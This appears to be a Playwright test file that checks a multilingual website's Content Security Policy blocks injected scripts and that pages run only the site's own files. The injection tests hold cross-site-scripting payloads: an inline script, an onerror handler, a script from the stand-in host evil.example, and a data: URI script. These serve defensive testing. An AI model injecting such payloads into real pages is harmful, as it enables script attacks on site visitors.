"""The security policy in a real browser: nothing of ours breaks it, and it keeps strangers out."""

import pytest

from press.project import LANGUAGES
from press.web.policy import with_policy_of_its_own
from waiting import wait_until

PATHS = [
    "", "method-guide/what-is-dmo/", "starter-pack/readiness-and-stall-risks/",
    "starter-pack/information-leaflet/", "relational-welfare/network-mapping-in-three-steps/",
    "print-shop/", "glossary/", "sources/", "accessibility/", "privacy/", "404.html",
]  # fmt: skip
WATCH = (
    "window.violations = [];"
    "addEventListener('securitypolicyviolation', e => window.violations.push("
    "`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`), true)"
)


def _prefix(language):
    return "" if language == "sv" else f"{language}/"


def test_pages_do_nothing_that_their_policy_forbids(browser, address):
    """Opened, searched, switched to dark and ticked, each page in one language: not one violation."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(WATCH)
    page = context.new_page()
    found = {}
    for n, path in enumerate(PATHS):
        page.goto(address + _prefix(LANGUAGES[n % len(LANGUAGES)]) + path)
        assert page.locator("meta[http-equiv=Content-Security-Policy]").count() == 1
        page.locator("[data-scheme-switch]").click()
        for box in page.locator("[data-item]").all()[:2]:
            box.check()
        page.locator("[data-search-open]").click()
        page.locator("[data-search-field]").fill("guide")
        page.keyboard.press("Enter")
        wait_until(page, "document.querySelector('[data-search-status]').textContent")
        if violations := page.evaluate("window.violations"):
            found[path] = violations
    context.close()
    assert found == {}


@pytest.mark.parametrize("path", ["", "da/print-shop/", "en/404.html"])
@pytest.mark.parametrize(
    "inject",
    [
        "const s = document.createElement('script'); s.textContent = 'window.pwned = 1';"
        " document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
        " document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwned=1';"
        " document.body.append(s)",
    ],
    ids=["inline script", "handler", "another host", "data"],
)
def test_a_script_from_elsewhere_never_runs(browser, address, path, inject):
    """Were somebody to get markup into a page, the browser would refuse to run it."""
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(address + path)
    page.evaluate(inject)
    wait_until(page, "window.violations.length > 0")
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("window.violations[0]").startswith("script-src")
    context.close()


def test_no_script_stands_in_a_page(site):
    """Everything a page runs or looks like comes from a file of the site."""
    from press.web.policy import POLICY, breaches

    pages = list(site.rglob("*.html"))
    assert len(pages) > 50
    for path in pages:
        html = path.read_text(encoding="utf-8")
        assert breaches(html) == [], path
        assert POLICY in html, path


@pytest.mark.parametrize(
    "path", ["index.html", "da/starter-pack/readiness-and-stall-risks/index.html"]
)
def test_pages_work_from_disk(browser, site, path):
    """Opened as files, their scripts run: the menu's buttons, light and dark, ticks that stay."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto((site / path).as_uri())
    page.locator("[data-scheme-switch]").click()
    assert page.evaluate("document.documentElement.dataset.scheme") == "dark"
    for box in page.locator("[data-item]").all()[:1]:
        box.check()
        page.reload()
        assert page.locator("[data-item]").first.is_checked()
    page.reload()
    assert page.evaluate("document.documentElement.dataset.scheme") == "dark"
    context.close()
    assert errors == []


def test_the_readers_scheme_is_there_before_the_page_is_shown(browser, address):
    """No flash of white: the small script in the head has set it before any other is loaded."""
    context = browser.new_context()
    context.add_init_script("localStorage.setItem('slingan:scheme', '\"dark\"')")
    page = context.new_page()
    page.route("**/header.js*", lambda route: route.abort())
    page.goto(address)
    assert page.evaluate("document.documentElement.dataset.scheme") == "dark"
    context.close()


def test_a_page_that_stands_alone_shows_its_style_and_nothing_runs(browser, tmp_path):
    """The page of a municipality's own set is opened from disk and brings its style along."""
    page = browser.new_page()
    file = tmp_path / "index.html"
    body = "<style>p { color: rgb(1, 2, 3); }</style></head><body><p onclick='window.pwned=1'>A</p>"
    file.write_text(with_policy_of_its_own(f"<!doctype html><html><head>{body}</body></html>"))
    page.goto(file.as_uri())
    page.locator("p").click()
    assert page.locator("p").evaluate("e => getComputedStyle(e).color") == "rgb(1, 2, 3)"
    assert page.evaluate("window.pwned") is None
    page.close()
